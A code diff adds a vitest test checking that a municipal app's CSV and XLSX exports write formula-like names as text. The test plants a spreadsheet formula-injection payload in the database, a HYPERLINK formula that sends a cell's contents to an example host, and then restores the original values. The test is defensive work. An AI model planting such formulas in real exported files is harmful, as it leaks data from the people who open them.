@@ -1,5 +1,8 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import ExcelJS from 'exceljs';
+import JSZip from 'jszip';
+import { sql } from 'drizzle-orm';
+import { parseCsvRows } from '../src/lib/csv.js';
 import { createTestApp, demoUser, login, loginAs, roleCaller, type Session, type TestApp } from './helpers.js';
 import { hasConsultationBy } from '../src/modules/alliance/list-consultations.js';
 import { createUser } from '../src/modules/auth/create-user.js';
@@ -186,6 +189,35 @@ describe('stages, milestones and the Bilanz', () => {
     await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
     expect(wb.worksheets[0]!.rowCount).toBe(419);
     expect((await call('police', 'GET', '/api/alliance/communes/export?format=csv')).statusCode).toBe(403);
+  });
+
+  it('writes names that look like formulas as text in CSV and XLSX, and numbers as numbers', async () => {
+    const evil = '=HYPERLINK("https://example.org/?"&A1,"Rathaus")';
+    const names = async () => ((await t.database.db.execute(sql`select c.name as commune, d.name as district from communes c join districts d on d.ags = c.district_ags where c.ags = '14628060'`)) as unknown as { rows: { commune: string; district: string }[] }).rows[0]!;
+    const before = await names();
+    await t.database.db.execute(sql`update communes set name = ${evil} where ags = '14628060'`);
+    await t.database.db.execute(sql`update districts set name = '@SUM(1+1)' where ags = '14628'`);
+    try {
+      const csv = (await call('lpr_staff', 'GET', '/api/alliance/communes/export?format=csv&asOf=2022-07-22')).body;
+      const rows = parseCsvRows(csv.replace(/^\uFEFF/, ''), ';');
+      const row = rows.find((r) => r[0] === '14628060')!;
+      expect(row.slice(1, 3)).toEqual([`'${evil}`, "'@SUM(1+1)"]);
+      expect(csv).toContain(`;"'=HYPERLINK(""https://example.org/?""&A1,""Rathaus"")";"'@SUM(1+1)";`);
+      expect(row[4]).toMatch(/^\d+$/);
+      const wb = new ExcelJS.Workbook();
+      const xlsx = (await call('lpr_staff', 'GET', '/api/alliance/communes/export?format=xlsx&asOf=2022-07-22')).rawPayload;
+      await wb.xlsx.load(xlsx as unknown as ArrayBuffer);
+      const ws = wb.worksheets[0]!;
+      let found: ExcelJS.Row | undefined;
+      ws.eachRow((r) => { if (r.getCell(1).value === '14628060') found = r; });
+      expect(found!.getCell(2).value).toBe(evil);
+      expect(found!.getCell(2).type).toBe(ExcelJS.ValueType.String);
+      expect(typeof found!.getCell(5).value).toBe('number');
+      expect(await (await JSZip.loadAsync(xlsx)).file('xl/worksheets/sheet1.xml')!.async('string')).not.toContain('<f>');
+    } finally {
+      await t.database.db.execute(sql`update communes set name = ${before.commune} where ags = '14628060'`);
+      await t.database.db.execute(sql`update districts set name = ${before.district} where ags = '14628'`);
+    }
   });
 });
 
